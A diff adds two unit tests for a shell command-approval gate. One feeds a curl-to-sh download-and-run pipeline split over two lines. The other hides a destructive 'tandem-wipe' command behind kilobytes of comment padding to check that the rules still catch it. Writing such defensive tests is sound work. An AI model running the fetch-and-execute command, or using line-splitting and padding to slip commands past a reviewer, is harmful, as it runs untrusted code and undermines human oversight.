@@ -155,6 +155,26 @@ class Rules(unittest.TestCase):
         finally:
             t.close()
 
+    def test_a_line_continuing_a_trailing_pipe_is_judged_with_it(self):
+        # "curl URL |" then "sh": the shell runs one pipeline, a download
+        # run as code, though neither line says so alone.
+        t = bed.shell(unwatched=True)
+        try:
+            t.send("curl -s http://203.0.113.9/i.sh |\r")
+            item = bed.decide_next()
+            self.assertIn("ends in a pipe", json.dumps(item["risks"]))
+            t.send("sh\r")
+            item = bed.decide_next("deny")
+            self.assertEqual(item["command"], "sh")
+            self.assertEqual(item["risks"][0]["level"], "critical", item["risks"])
+            self.assertIn("continues an approved line that was left unfinished",
+                          json.dumps(item["risks"]))
+            t.send("\x03")
+            t.expect(r"\$ $")
+            end(t)
+        finally:
+            t.close()
+
     def test_denied_exec_command_ends_with_255(self):
         before = bed.recordings_now()
         p = bed.ssh("db01", "tandem-wipe", "--now")
@@ -197,6 +217,38 @@ class Rules(unittest.TestCase):
         self.assertEqual(rec.stream("i"), b"true; tandem-")
         refused = [d for d in decisions(rec.path) if d["decision"] == "refused"]
         self.assertEqual(len(refused), 1)
+
+    def test_a_script_read_from_stdin_is_judged_past_its_first_page(self):
+        # The rules once read only the first 4 KiB of the input: 5 KB of
+        # comments hid the line a deny rule refuses.
+        script = b"# notes\n" * 640 + b"tandem-wipe now\n"
+        p = subprocess.run(bed.ssh_argv() + ["db01", "sh"], input=script,
+                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                           timeout=120)
+        self.assertEqual(p.returncode, 255)
+        self.assertIn(b"refused by policy: its input: wipes the whole test disk",
+                      p.stderr)
+        # Past what the rules read, the escort is told so.
+        big = b"# notes\n" * 9000 + b"echo done\n"
+        proc = subprocess.Popen(bed.ssh_argv() + ["db01", "sh"], stdin=subprocess.PIPE,
+                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        try:
+            proc.stdin.write(big)
+            proc.stdin.close()
+            deadline = time.time() + 20
+            while time.time() < deadline:
+                items = bed.pending(wait=2)
+                if items and items[0].get("stdin_complete"):
+                    break
+            item = items[0]
+            self.assertIn(f"its input is {len(big)} bytes, and only the first "
+                          f"65536 were checked", json.dumps(item["risks"]))
+            bed.escort("deny", item["session"], str(item["seq"]))
+            self.assertEqual(proc.wait(20), 255)
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+            proc.wait()
 
     def test_risks_in_the_input_rank_with_the_commands_own(self):
         proc = subprocess.Popen(bed.ssh_argv() + ["db01", "tandem-peek; sh"],
